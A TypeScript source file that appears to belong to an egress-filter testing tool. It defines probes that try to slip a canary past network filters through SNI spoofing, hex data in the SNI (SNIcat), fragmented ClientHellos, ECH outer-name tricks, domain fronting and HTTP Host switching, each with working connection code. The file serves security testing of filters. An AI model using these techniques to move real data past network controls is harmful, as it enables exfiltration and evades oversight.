/** Games with the names a filter reads: SNI, Host, no name at all, ECH, and fronting, which no filter without keys can see. */
import { connect } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { converse, plain, request, secure, toAddress, toSite } from "../probe/fire.ts";
import { helloRecord } from "../probe/hello.ts";
import type { Technique } from "../technique.ts";

const tls = { kind: "tcp", port: 443 } as const;
const foreign = (shot: { collector: { name: string | null }; canary: string }) =>
  shot.collector.name ?? `${shot.canary}.invalid`;

export const names: readonly Technique[] = [
  {
    id: "sni-spoof-own-address",
    name: "an allowed SNI to the attacker's address",
    class: "T14",
    attack: ["T1036", "T1071.001"],
    incidents: [],
    does: "Opens TLS to the attacker's address and shows an allowed name as SNI.",
    works: "A filter that reads the SNI and does not ask whose address it is lets it pass.",
    expected: "blocked",
    needs: ["tls-site"],
    channel: tls,
    probe: (shot) =>
      toAddress(shot, 4, (address) =>
        secure(address, 443, shot.site.tls!, [request(shot.site.tls!, shot.canary)], shot),
      ),
  },
  {
    id: "foreign-sni-shared-address",
    name: "the attacker's SNI to an address shared with an allowed name",
    class: "T14",
    attack: ["T1090.004", "T1567"],
    incidents: [],
    does: "Resolves the allowed name and opens TLS for another tenant at the same address.",
    works: "A firewall that turns names into addresses allows every tenant of a CDN.",
    expected: "blocked",
    needs: ["tls-site"],
    channel: tls,
    probe: (shot) =>
      toSite(shot, shot.site.tls, (address) =>
        secure(address, 443, foreign(shot), [request(foreign(shot), shot.canary)], shot),
      ),
  },
  {
    id: "sni-data",
    name: "data inside the SNI (SNIcat)",
    class: "T14",
    attack: ["T1048.002", "T1132.001"],
    incidents: [{ name: "SNIcat (mnemonic, published)", year: 2020 }],
    does: "Sends hellos to an allowed address whose SNI is the canary in hex; no handshake is needed.",
    works: "Filters that decide by the SNI forward the hello before they refuse.",
    expected: "blocked",
    needs: ["tls-site"],
    channel: tls,
    probe: (shot) =>
      toSite(shot, shot.site.tls, (address) => {
        const sni = `${Buffer.from(shot.canary).toString("hex")}.invalid`;
        return plain(address, 443, [helloRecord({ sni, canary: "" })], shot);
      }),
  },
  {
    id: "hello-in-pieces",
    name: "a hello cut so that the name is never whole",
    class: "T14",
    attack: ["T1071.001", "T1027"],
    incidents: [],
    does: "Sends the attacker's hello to an allowed address in small segments, the name cut in the middle.",
    works: "A filter that reads one packet finds no name and takes it for no TLS.",
    expected: "blocked",
    needs: ["tls-site"],
    channel: tls,
    probe: (shot) =>
      toSite(shot, shot.site.tls, async (address) => {
        const bytes = helloRecord({ sni: foreign(shot), canary: shot.canary });
        const socket = connect({ host: address, port: 443, noDelay: true });
        const done = converse(socket, "connect", [bytes.subarray(0, 7)], shot.patience);
        for (let at = 7; at < bytes.length && !socket.destroyed; at += 80) {
          await sleep(5);
          if (socket.writable && !socket.connecting) socket.write(bytes.subarray(at, at + 80));
          else at -= 80;
        }
        return done;
      }),
  },
  {
    id: "no-sni",
    name: "TLS without a name",
    class: "T14",
    attack: ["T1573.002", "T1071.001"],
    incidents: [],
    does: "Opens TLS to a bare address with no server_name extension.",
    works: "No name, no rule: a filter that fails open lets it pass.",
    expected: "blocked",
    needs: [],
    channel: tls,
    probe: (shot) => toAddress(shot, 4, (address) => secure(address, 443, "", [request(address, shot.canary)], shot)),
  },
  {
    id: "ip-literal-sni",
    name: "an address as SNI",
    class: "T14",
    attack: ["T1036", "T1071.001"],
    incidents: [],
    does: "Sends a hello whose SNI is an IP address, which RFC 6066 forbids, with the canary in an extension.",
    works: "Parsers differ about what it is, and some match it against lists of addresses.",
    expected: "blocked",
    needs: [],
    channel: tls,
    probe: (shot) =>
      toAddress(shot, 4, (address) => plain(address, 443, [helloRecord({ sni: address, canary: shot.canary })], shot)),
  },
  {
    id: "ech-outer-own-address",
    name: "an allowed name as ECH's outer name, at the attacker's address",
    class: "T14",
    attack: ["T1090.004", "T1573.002"],
    incidents: [],
    does: "Sends a hello with an allowed outer SNI and an encrypted_client_hello to the attacker's address.",
    works: "The outer name is all that a filter can read.",
    expected: "blocked",
    needs: ["tls-site"],
    channel: tls,
    probe: (shot) =>
      toAddress(shot, 4, (address) =>
        plain(address, 443, [helloRecord({ sni: shot.site.tls, canary: "", ech: shot.canary })], shot),
      ),
  },
  {
    id: "ech-inner-at-front",
    name: "another name inside ECH, at an allowed front",
    class: "T14",
    attack: ["T1090.004", "T1573.002"],
    incidents: [],
    does: "Sends a hello with the allowed outer SNI to its own address; the encrypted inner hello names somebody else.",
    works: "Browsers send the extension with random content (GREASE), so its presence proves nothing.",
    expected: "reached",
    limit:
      "An allowed front is allowed: what the inner hello says, only the front can read. Allow hosts that are no fronts.",
    needs: ["tls-site"],
    channel: tls,
    probe: (shot) =>
      toSite(shot, shot.site.tls, (address, name) =>
        plain(address, 443, [helloRecord({ sni: name, canary: "", ech: shot.canary })], shot),
      ),
  },
  {
    id: "domain-fronting",
    name: "domain fronting: SNI allowed, Host another's",
    class: "T14",
    attack: ["T1090.004"],
    incidents: [{ name: "APT29 with meek", year: 2017 }],
    does: "Opens TLS for the allowed name at its address and asks inside for the attacker's Host.",
    works: "A CDN routes by the Host, which is encrypted.",
    expected: "reached",
    limit:
      "Only TLS inspection sees the inner Host; Sallyport does none. Prefer hosts that are no fronts; the lint names known ones.",
    needs: ["tls-site"],
    channel: tls,
    probe: (shot) =>
      toSite(shot, shot.site.tls, (address, name) =>
        secure(address, 443, name, [request(foreign(shot), shot.canary)], shot),
      ),
  },
  {
    id: "http-host-switch",
    name: "another Host on a kept-alive connection",
    class: "T14",
    attack: ["T1071.001", "T1090.004"],
    incidents: [],
    does: "Makes one request for the allowed Host over plain HTTP, then one for the attacker's on the same connection.",
    works: "Filters that decide once per connection have decided.",
    expected: "blocked",
    needs: ["http-site"],
    channel: { kind: "tcp", port: 80 },
    probe: (shot) =>
      toSite(shot, shot.site.http, (address, name) =>
        plain(
          address,
          80,
          [request(name, "", { method: "GET", keep: true }), request(foreign(shot), shot.canary)],
          shot,
        ),
      ),
  },
  {
    id: "http-foreign-host-shared-address",
    name: "the attacker's Host at an allowed address",
    class: "T14",
    attack: ["T1071.001", "T1048.003"],
    incidents: [],
    does: "Resolves the name that is allowed over plain HTTP and asks its address for another Host.",
    works: "A firewall that turns names into addresses does not read requests.",
    expected: "blocked",
    needs: ["http-site"],
    channel: { kind: "tcp", port: 80 },
    probe: (shot) =>
      toSite(shot, shot.site.http, (address) => plain(address, 80, [request(foreign(shot), shot.canary)], shot)),
  },
];
